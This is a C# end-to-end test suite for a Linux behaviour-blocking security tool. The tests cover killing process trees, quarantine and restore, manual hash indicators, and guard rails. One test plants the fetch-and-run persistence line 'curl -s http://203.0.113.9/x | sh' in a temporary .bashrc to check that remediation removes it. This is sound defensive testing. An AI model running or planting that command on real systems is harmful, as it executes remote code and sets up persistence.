using System;
using System.Collections.Generic;
using System.IO;
using System.Linq;
using System.Security.Cryptography;
using System.Text.Json;
using BehaviorBlocking.Cli;
using BehaviorBlocking.Detections;
using BehaviorBlocking.Response;
using BehaviorBlocking.Response.Linux;
using BehaviorBlocking.Store;
using BehaviorBlocking.Tests.TestSupport;
using Microsoft.Data.Sqlite;

namespace BehaviorBlocking.Tests.EndToEnd
{
    /// <summary>
    /// <c>behaviorblock</c> in process over this machine's real components (no test doubles): real process trees,
    /// real files outside the product and system folders, a real store; then the commands that list and undo.
    /// </summary>
    public sealed class BlockCommandEndToEndTests : IDisposable
    {
        private static readonly string SampleDir = Path.Combine(AppContext.BaseDirectory, "data", "samples");
        private readonly TempDirectory _temp = new TempDirectory();
        private readonly string _store;

        public BlockCommandEndToEndTests()
        {
            _store = _temp.Combine("store.db");
        }

        public void Dispose()
        {
            SqliteConnection.ClearAllPools();
            _temp.Dispose();
        }

        private static (int Exit, string Out, string Err) Cli(params string[] args)
        {
            var stdout = new StringWriter();
            var stderr = new StringWriter();
            int exit = Program.Run(args, stdout, stderr);
            return (exit, stdout.ToString(), stderr.ToString());
        }

        private (int Exit, string Out, string Err) Block(params string[] args) => Cli(new[] { "block" }.Concat(args).Concat(new[] { "--store", _store, "--format", "jsonl" }).ToArray());

        private static List<JsonElement> Lines(string jsonl) =>
            jsonl.Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(line => JsonDocument.Parse(line).RootElement.Clone()).ToList();

        private List<ActionRecord> Recorded()
        {
            using ActionLog log = ActionLog.OpenReadOnly(_store);
            return log.List().ToList();
        }

        [LinuxRootFact]
        public void BlockPid_WhatIf_NamesTheRunningProcessAndTouchesNothing()
        {
            using SpawnedTree tree = SpawnedTree.Start("sleep 300 & wait");
            tree.WaitForAtLeast(2);
            string pid = tree.RootId.ToString(System.Globalization.CultureInfo.InvariantCulture);

            var (exit, output, err) = Block("--pid", pid, "--what-if");

            Assert.True(exit == 0, err);
            JsonElement step = Assert.Single(Lines(output));
            Assert.Equal("WhatIf", step.GetProperty("outcome").GetString());

            // The process is named by its image, as in every other step (not "PID n (?)").
            string image = Path.GetFileName(File.ResolveLinkTarget("/proc/" + pid + "/exe", returnFinalTarget: false)!.FullName);
            Assert.Equal("PID " + pid + " (" + image + ")", step.GetProperty("target").GetString());
            Assert.DoesNotContain("(?)", step.GetProperty("detail").GetString(), StringComparison.Ordinal);
            Assert.False(LiveResponseEndToEndTests.AllGone(tree), "a what-if kills nothing");
            Assert.False(File.Exists(_store), "a what-if records nothing");
        }

        [LinuxRootFact]
        public void BlockPid_RealTree_IsGoneExitsZeroAndTheStepIsRecorded()
        {
            using SpawnedTree tree = SpawnedTree.Start("sleep 300 & (sleep 300 & wait) & wait");
            tree.WaitForAtLeast(4);

            var (exit, output, err) = Block("--pid", tree.RootId.ToString(System.Globalization.CultureInfo.InvariantCulture));

            Assert.True(exit == 0, err);
            JsonElement step = Assert.Single(Lines(output));
            Assert.Equal("KillTree", step.GetProperty("kind").GetString());
            Assert.Equal("Done", step.GetProperty("outcome").GetString());
            Assert.True(LiveResponseEndToEndTests.AllGone(tree), "the tree is gone");
            ActionRecord record = Assert.Single(Recorded());
            Assert.Equal((ResponseKind.KillTree, StepOutcome.Done), (record.Step.Kind, record.Step.Outcome));
            Assert.Null(record.DetectionId);
            Assert.StartsWith("manual:", record.Step.Actor, StringComparison.Ordinal);
        }

        [LinuxRootFact]
        public void BlockPid_WhatIf_LeavesTheTreeAliveAndRecordsNothing()
        {
            using SpawnedTree tree = SpawnedTree.Start("sleep 300 & (sleep 300 & wait) & wait");
            tree.WaitForAtLeast(4);

            var (exit, output, _) = Block("--pid", tree.RootId.ToString(System.Globalization.CultureInfo.InvariantCulture), "--what-if");

            Assert.Equal(0, exit);
            Assert.Equal("WhatIf", Assert.Single(Lines(output)).GetProperty("outcome").GetString());
            System.Threading.Thread.Sleep(100);
            Assert.Equal(4, tree.Running().Count);
            Assert.False(File.Exists(_store), "what-if writes nothing, not even the store");
        }

        [LinuxRootFact]
        public void BlockPid_One_IsRefusedAndExitsOne()
        {
            var (exit, output, _) = Block("--pid", "1");

            Assert.Equal(1, exit);
            JsonElement step = Assert.Single(Lines(output));
            Assert.Equal("Refused", step.GetProperty("outcome").GetString());
            Assert.NotNull(ProcFs.ReadStat(1));
            Assert.Equal(StepOutcome.Refused, Assert.Single(Recorded()).Step.Outcome);
        }

        [LinuxRootFact]
        public void BlockPath_QuarantinesTheRealFile_ListShowsIt_RestoreBringsItBackByteForByte()
        {
            string file = _temp.Combine("payload.bin");
            byte[] content = RandomNumberGenerator.GetBytes(70_000);
            File.WriteAllBytes(file, content);
            string sha = Convert.ToHexString(SHA256.HashData(content));

            var (exit, output, err) = Block("--path", file);

            Assert.True(exit == 0, err + output);
            JsonElement step = Assert.Single(Lines(output));
            Assert.Equal("Quarantine", step.GetProperty("kind").GetString());
            Assert.Equal("Done", step.GetProperty("outcome").GetString());
            string id = step.GetProperty("reference").GetString()!;
            Assert.False(File.Exists(file));

            var (listExit, listed, _) = Cli("quarantine", "list", "--format", "jsonl");
            Assert.Equal(0, listExit);
            JsonElement entry = Assert.Single(Lines(listed), e => e.GetProperty("id").GetString() == id);
            Assert.Equal(file, entry.GetProperty("originalPath").GetString());
            Assert.Equal(sha, entry.GetProperty("sha256").GetString(), ignoreCase: true);

            var (restoreExit, _, restoreErr) = Cli("quarantine", "restore", id);
            Assert.True(restoreExit == 0, restoreErr);
            Assert.Equal(content, File.ReadAllBytes(file));
        }

        [LinuxRootFact]
        public void BlockPath_SystemFile_IsRefusedByTheRealGuardRails()
        {
            var (exit, output, _) = Block("--path", "/bin/sh");

            Assert.Equal(1, exit);
            Assert.Equal("Refused", Assert.Single(Lines(output)).GetProperty("outcome").GetString());
            Assert.True(File.Exists("/bin/sh"));
        }

        [Fact]
        public void BlockSha256_ThenIndicatorList_ShowsAManualBlockIndicator()
        {
            string sha = Convert.ToHexString(RandomNumberGenerator.GetBytes(32));

            var (exit, output, err) = Block("--sha256", sha.ToLowerInvariant(), "--comment", "seen on the mail gateway");

            Assert.True(exit == 0, err + output);
            Assert.Equal("Done", Assert.Single(Lines(output)).GetProperty("outcome").GetString());
            var (listExit, listed, _) = Cli("indicator", "list", "--format", "jsonl", "--store", _store);
            Assert.Equal(0, listExit);
            JsonElement indicator = Assert.Single(Lines(listed));
            Assert.Equal(sha, indicator.GetProperty("value").GetString());
            Assert.Equal("Block", indicator.GetProperty("verdict").GetString());
            Assert.Equal("Manual", indicator.GetProperty("source").GetString());
            Assert.Equal("seen on the mail gateway", indicator.GetProperty("comment").GetString());
        }

        [LinuxRootFact]
        public void BlockDetection_PidReusedByAProcessOfTheSameImage_RefusedAndTheProcessLives()
        {
            // A detection recorded an hour ago names a pid that a process started now holds, running the same image.
            using SpawnedTree tree = SpawnedTree.Start("sleep 300");
            string image = new FileInfo("/proc/" + tree.RootId.ToString(System.Globalization.CultureInfo.InvariantCulture) + "/exe").LinkTarget!;
            var detection = new Detection
            {
                Id = Guid.NewGuid(),
                Name = "Behavior:Linux/Execution.Old!rule",
                Platform = DetectionPlatform.Linux,
                Tactic = Tactic.Execution,
                Host = Environment.MachineName,
                ProcessId = tree.RootId,
                Image = image,
                FirstSeen = DateTimeOffset.UtcNow.AddHours(-1),
                LastSeen = DateTimeOffset.UtcNow.AddHours(-1),
            };
            using (DetectionStore store = DetectionStore.Open(_store))
            {
                store.Upsert(new[] { detection });
            }

            var (exit, output, _) = Block("--detection", detection.Id.ToString("D"), "--action", "KillTree");

            Assert.Equal(1, exit);
            JsonElement step = Assert.Single(Lines(output));
            Assert.Equal("Refused", step.GetProperty("outcome").GetString());
            Assert.Contains("reused", step.GetProperty("detail").GetString(), StringComparison.Ordinal);
            Assert.NotEmpty(tree.Running());
        }

        [LinuxRootFact]
        public void BlockDetection_Remediate_RemovesTheShellRcLine_UndoPutsTheFileBackExactly()
        {
            string rc = _temp.Combine("home", "alice", ".bashrc");
            Directory.CreateDirectory(Path.GetDirectoryName(rc)!);
            const string Planted = "curl -s http://203.0.113.9/x | sh";
            byte[] original = System.Text.Encoding.UTF8.GetBytes("# ~/.bashrc\nalias ll='ls -l'\n" + Planted + "\nexport EDITOR=vi\n");
            File.WriteAllBytes(rc, original);
            var detection = new Detection
            {
                Id = Guid.NewGuid(),
                Name = "Behavior:Linux/Persistence.ShellRc!rule",
                Platform = DetectionPlatform.Linux,
                Tactic = Tactic.Persistence,
                Host = Environment.MachineName,
                FirstSeen = DateTimeOffset.UtcNow,
                LastSeen = DateTimeOffset.UtcNow,
                Evidence = new[] { new PersistenceArtifact(PersistenceKind.ShellRcLine, rc, Planted).ToEvidence(DateTimeOffset.UtcNow) },
            };
            using (DetectionStore store = DetectionStore.Open(_store))
            {
                store.Upsert(new[] { detection });
            }

            var (exit, output, err) = Block("--detection", detection.Id.ToString("D"), "--action", "Remediate");

            Assert.True(exit == 0, err + output);
            JsonElement step = Assert.Single(Lines(output));
            Assert.Equal("Remediate", step.GetProperty("kind").GetString());
            Assert.Equal("Done", step.GetProperty("outcome").GetString());
            Assert.DoesNotContain(Planted, File.ReadAllText(rc), StringComparison.Ordinal);
            Assert.Contains("export EDITOR=vi", File.ReadAllText(rc), StringComparison.Ordinal);
            Assert.Contains(Recorded(), r => r.DetectionId == detection.Id && r.Step.Kind == ResponseKind.Remediate && r.Step.Outcome == StepOutcome.Done);

            var (undoExit, _, undoErr) = Cli("remediation", "undo", step.GetProperty("reference").GetString()!, "--store", _store);

            Assert.True(undoExit == 0, undoErr);
            Assert.Equal(original, File.ReadAllBytes(rc));
        }

        [Fact]
        public void Scan_BlockIndicatorForASampleHash_ReportsTheIndicatorDetectionWithAWhatIfKill()
        {
            string policy = _temp.Combine("block.json");
            File.WriteAllText(policy, "{ \"schemaVersion\": 1, \"version\": \"e2e-1\", \"mode\": \"Block\", \"defaults\": { \"threshold\": 0.9, \"action\": \"KillTree\" } }");
            const string Hash = "2D5E1C0F0B3A7E5C9D1F4B6A8C0E2D4F6A8B0C2D4E6F8A0B2C4D6E8F0A2B4C6D";
            var (addExit, _, addErr) = Cli("indicator", "add", "--sha256", Hash, "--verdict", "block", "--comment", "known dropper", "--store", _store);
            Assert.True(addExit == 0, addErr);

            var (exit, output, err) = Cli("scan", SampleDir, "--policy", policy, "--format", "jsonl", "--store", _store);

            Assert.True(exit == 0, err);
            List<JsonElement> detections = Lines(output);
            JsonElement hit = Assert.Single(detections, d => d.GetProperty("evidence").EnumerateArray().Any(e => e.GetProperty("kind").GetString() == "indicator"));
            Assert.Equal("Audited", hit.GetProperty("action").GetString());
            Assert.Contains(hit.GetProperty("actions").EnumerateArray(), a => a.GetProperty("kind").GetString() == "KillTree" && a.GetProperty("outcome").GetString() == "WhatIf");

            // Without the store, the store's indicators take no part.
            var (noStoreExit, noStore, _) = Cli("scan", SampleDir, "--policy", policy, "--format", "jsonl", "--no-store");
            Assert.Equal(0, noStoreExit);
            Assert.DoesNotContain(Lines(noStore), d => d.GetProperty("evidence").EnumerateArray().Any(e => e.GetProperty("kind").GetString() == "indicator"));
        }
    }
}
